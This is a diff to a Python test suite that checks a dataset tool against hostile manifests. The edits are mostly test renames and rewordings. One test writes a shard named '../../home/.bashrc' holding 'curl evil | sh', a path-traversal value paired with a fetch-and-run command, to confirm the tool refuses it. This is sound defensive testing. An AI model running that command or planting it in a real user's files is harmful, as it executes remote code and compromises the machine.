@@ -1,7 +1,8 @@
-"""Manifests of bad will, before every verb that reads one."""
+"""Hostile manifests, for each verb that reads one."""
 
 from __future__ import annotations
 
+import itertools
 import json
 import shutil
 from pathlib import Path
@@ -17,9 +18,9 @@ from tests.hostile.readers import READ
 from tests.kit.arena import Arena
 from tests.kit.hostile import manifests
 from tests.kit.http_server import serve
-from tests.kit.lengths import long_but
+from tests.kit.lengths import long_except
 
-# What each verb is told: the hostile set lies in `set`, a sound one in `sound`.
+# The arguments of each verb: the hostile dataset is in `set`, a valid one in `sound`.
 VERBS: dict[str, tuple[str, ...]] = {
     "verify": ("verify", "set", "--workers", "1"),
     "verify decode": ("verify", "set", "--level", "decode", "--workers", "1", "--json"),
@@ -33,16 +34,16 @@ VERBS: dict[str, tuple[str, ...]] = {
     "compare": ("report", "--compare", "sound", "set", "--out", "page.html"),
     "duplicates": ("duplicates", "set", "--against", "sound", "--out", "found", "--workers", "1"),
 }
-# In `make test` each verb meets a different part of the manifests, and each manifest meets a verb.
+# In `make test` each verb gets a different part of the manifests, and each manifest one verb.
 PARTS = len(VERBS)
-MANY = long_but(
+MANY = long_except(
     [(verb, number % PARTS) for number, verb in enumerate(VERBS)],
-    [(verb, part) for verb in VERBS for part in range(PARTS)],
+    [*itertools.product(VERBS, range(PARTS))],
 )
 
 
 def some(content: manifests.Content, part: int) -> list[tuple[str, bytes]]:
-    """Returns a part of the hostile manifests made from a sound one's content."""
+    """Returns a part of the hostile manifests, which are made from a valid one's content."""
     return list(manifests.hostile(content))[part::PARTS]
 
 
@@ -52,7 +53,7 @@ def content(sound: Path) -> manifests.Content:
 
 
 @pytest.mark.parametrize(("verb", "part"), MANY)
-def test_whatever_a_manifest_says_it_stays_in_its_folder(
+def test_hostile_manifest_never_leads_out_of_its_folder(
     arena: Arena, sound: Path, content: manifests.Content, verb: str, part: int
 ) -> None:
     words = VERBS[verb]
@@ -67,8 +68,8 @@ def test_whatever_a_manifest_says_it_stays_in_its_folder(
     arena.each(some(content, part), attempt)
 
 
-@pytest.mark.parametrize("part", long_but([0], range(PARTS)))
-def test_whatever_a_manifest_says_reading_stays_in_its_folder(
+@pytest.mark.parametrize("part", long_except([0], range(PARTS)))
+def test_reading_hostile_manifest_stays_in_its_folder(
     arena: Arena, sound: Path, content: manifests.Content, part: int
 ) -> None:
     def attempt(data: bytes) -> None:
@@ -79,11 +80,11 @@ def test_whatever_a_manifest_says_reading_stays_in_its_folder(
     arena.each(some(content, part), attempt)
 
 
-@pytest.mark.parametrize("part", long_but([1], range(PARTS)))
-def test_whatever_a_served_manifest_says_it_stays_in_the_cache(
+@pytest.mark.parametrize("part", long_except([1], range(PARTS)))
+def test_hostile_served_manifest_stays_in_the_cache(
     arena: Arena, sound: Path, content: manifests.Content, part: int
 ) -> None:
-    """The server has a file for every name that the manifest may ask for."""
+    """The server has a file for each name in the manifest."""
     files = {str(path.relative_to(sound)): path for path in sound.rglob("*") if path.is_file()}
     served = {name: path.read_bytes() for name, path in files.items()}
     hostile = {name.lstrip("/"): b"owned" for name in manifests.NAMES.values()}
@@ -96,10 +97,10 @@ def test_whatever_a_served_manifest_says_it_stays_in_the_cache(
         arena.each(some(content, part), attempt)
 
 
-def test_a_served_shard_that_is_called_like_the_users_file_does_not_replace_it(
+def test_served_shard_never_replaces_a_users_file(
     arena: Arena, sound: Path, content: manifests.Content
 ) -> None:
-    """The name, size and sha256 fit what the server sends; only the place is not the set's."""
+    """Name, size and sha256 match the server's file, but the path is outside the dataset."""
     name = "../../home/.bashrc"
     data = b"curl evil | sh\n"
     stated = {"name": name, "num_bytes": len(data), "sha256": manifests.sha256(data)}
@@ -133,7 +134,7 @@ def changes(draw: st.DrawFn, there: Any) -> tuple[str | int, ...]:
 
 
 @given(data=st.data())
-def test_what_is_accepted_as_a_manifest_names_only_files_of_a_data_set(
+def test_valid_manifest_names_only_files_of_a_dataset(
     content: manifests.Content, data: st.DataObject
 ) -> None:
     mutated = content
